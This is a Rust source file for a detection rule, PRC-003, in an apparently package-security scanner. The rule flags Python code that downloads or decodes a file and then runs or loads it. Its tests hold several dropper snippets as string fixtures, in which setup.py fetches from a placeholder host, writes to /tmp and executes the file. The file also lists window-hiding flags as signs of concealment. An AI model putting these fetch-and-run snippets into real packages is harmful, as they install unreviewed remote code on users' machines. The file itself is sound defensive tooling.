//! `PRC-003`: a program that was downloaded or unpacked is started.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{self, BESIDE};
use super::evidence::written_paths;
use super::given::is_worked_on;
use super::sent::{FAR, asks_constant, host_of, is_asked_for, source_call, texts};
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Context, Flow, Label, SinkKind};

/// The rule.
pub(super) struct Dropper;

impl Rule for Dropper {
    fn id(&self) -> &'static str {
        "PRC-003"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "a downloaded file is started"
    }

    fn manual(&self) -> &'static str {
        "Something from the network, or something decoded, is written to a file, and the \
         file is started, made executable or loaded as native code.\n\n\
         What is run is not part of the distribution: nobody has looked at it, and it can \
         be another tomorrow.\n\n\
         Mistaken for it: libraries that fetch the drivers of browsers when they are \
         first used. They do it in a call, and check what they got."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let starts = matches!(
                flow.kind,
                SinkKind::Command | SinkKind::Executable | SinkKind::Native
            );
            if flow.label != Label::Dropped
                || !starts
                || is_worked_on(analysis, analysis.sink(flow))
            {
                continue;
            }
            let worst = if flow.hops > FAR || is_asked_for(analysis, flow) {
                Severity::Medium
            } else {
                Severity::High
            };
            // A function that fetches a program is a driver that somebody wants, unless it hides.
            let severity = match asks_constant(analysis, flow) && is_secret(analysis, flow) {
                true => even_if_asked(worst, flow.context),
                false => in_context(worst, flow.context),
            };
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} starts a file that came from {}",
                analysis.sink(flow).target,
                flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis.calls().filter(|call| places_program(call)) {
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(70).in_context(call.context);
            let message = format!(
                "{} puts a program where others start or load it",
                call.target
            );
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
        for call in beside::fetched_and_started(analysis) {
            let is_told = observations
                .iter()
                .any(|seen| seen.rule == self.id() && call.place.file == seen.file);
            if !is_told {
                let severity = in_context(Severity::High, call.context);
                let message = format!(
                    "{} starts something where a file is fetched and written",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
    }
}

/// Whether the call writes a program below a folder of somebody else's, unasked.
fn places_program(call: &Call) -> bool {
    let is_program = |path: &str| {
        [".dll", ".exe", ".scr", ".pyd", ".dylib"]
            .iter()
            .any(|end| path.to_ascii_lowercase().ends_with(end))
    };
    let is_foreign =
        |path: &str| path.starts_with('~') || path.contains(":/") || path.starts_with('/');
    call.context == Context::Import
        && written_paths(call)
            .iter()
            .any(|path| is_program(path) && is_foreign(path))
}

/// Whether what is fetched comes without encryption or from a bare address, or is started so that nobody
/// sees it or from where nobody looks.
fn is_secret(analysis: &Analysis, flow: &Flow) -> bool {
    let sink = analysis.sink(flow);
    let hides = [
        "DEVNULL",
        "CREATE_NO_WINDOW",
        "start_new_session",
        "SW_HIDE",
        "0x08000000",
    ];
    let is_plain = |text: &&str| {
        let is_number = |host: &str| host.parse::<std::net::IpAddr>().is_ok();
        text.starts_with("http://") || host_of(text).is_some_and(is_number)
    };
    let is_hidden = |text: &&str| text.contains("/.");
    let asked = source_call(analysis, flow);
    asked.is_some_and(|call| texts(call).iter().any(is_plain))
        || hides.iter().any(|word| sink.code.contains(word))
        || flow.kind == SinkKind::Command && texts(sink).iter().any(is_hidden)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn dropped_files_are_followed_to_their_start() {
        for (path, code) in [
            (
                "setup.py",
                "import requests, subprocess\nr = requests.get('https://files.invalid/a')\nwith open('/tmp/updater', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen(['/tmp/updater'])",
            ),
            (
                "demo/__init__.py",
                "import urllib.request, os\nurllib.request.urlretrieve('https://files.invalid/a.exe', 'C:/a/setup_a.exe')\nos.startfile('C:/a/setup_a.exe')",
            ),
            (
                "demo/__init__.py",
                "import requests, os\np = os.path.join('/tmp', 'payload')\nopen(p, 'wb').write(requests.get('https://files.invalid/a').content)\nos.chmod(p, 0o755)\nos.system(p)",
            ),
            (
                "setup.py",
                "from pathlib import Path\nimport urllib.request as u, ctypes\np = Path('/tmp/native.so')\np.write_bytes(u.urlopen('https://files.invalid/a').read())\nctypes.CDLL(str(p))",
            ),
            (
                "setup.py",
                "import urllib.request, subprocess, sys\nurllib.request.urlretrieve('https://files.invalid/a.py', '/tmp/list.py')\nsubprocess.run([sys.executable, '/tmp/list.py'])",
            ),
            (
                "setup.py",
                "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.invalid/a.sh', '/tmp/list.sh')\nsubprocess.run('git status; sh /tmp/list.sh', shell=True)",
            ),
            (
                "demo/__init__.py",
                "import base64, os\nopen('/tmp/dropped', 'wb').write(base64.b64decode(blob))\nos.system('/tmp/dropped &')",
            ),
        ] {
            found("PRC-003", path, code);
        }
    }

    #[test]
    fn downloads_and_drivers_that_are_called_for_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests\nopen('/tmp/data.csv', 'wb').write(requests.get('https://files.invalid/a').content)",
            ),
            (
                "demo/__init__.py",
                "import urllib.request, subprocess\ndef driver():\n    urllib.request.urlretrieve('https://files.invalid/a', '/tmp/driver_a')\n    subprocess.Popen(['/tmp/driver_a'])",
            ),
            (
                "setup.py",
                "import subprocess\nsubprocess.check_call(['make'])",
            ),
            (
                "setup.py",
                "import urllib.request, subprocess\nfolder = urllib.request.urlopen('https://files.invalid/newest').read().decode()\nwith open(folder + '/configure', 'rb') as f:\n    script = f.read()\nwith open(folder + '/configure', 'wb') as f:\n    f.write(script)\nsubprocess.call(['./configure'])",
            ),
            (
                "setup.py",
                "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.invalid/a.yml', '/tmp/list.yml')\nsubprocess.run(['git', 'add', '/tmp/list.yml'])",
            ),
            (
                "setup.py",
                "import urllib.request, subprocess, sys\nurllib.request.urlretrieve('https://files.invalid/a.yml', '/tmp/list.yml')\nsubprocess.run([sys.executable, '-m', 'setup', '--list=/tmp/list.yml'])",
            ),
        ] {
            quiet("PRC-003", path, code);
        }
    }
}
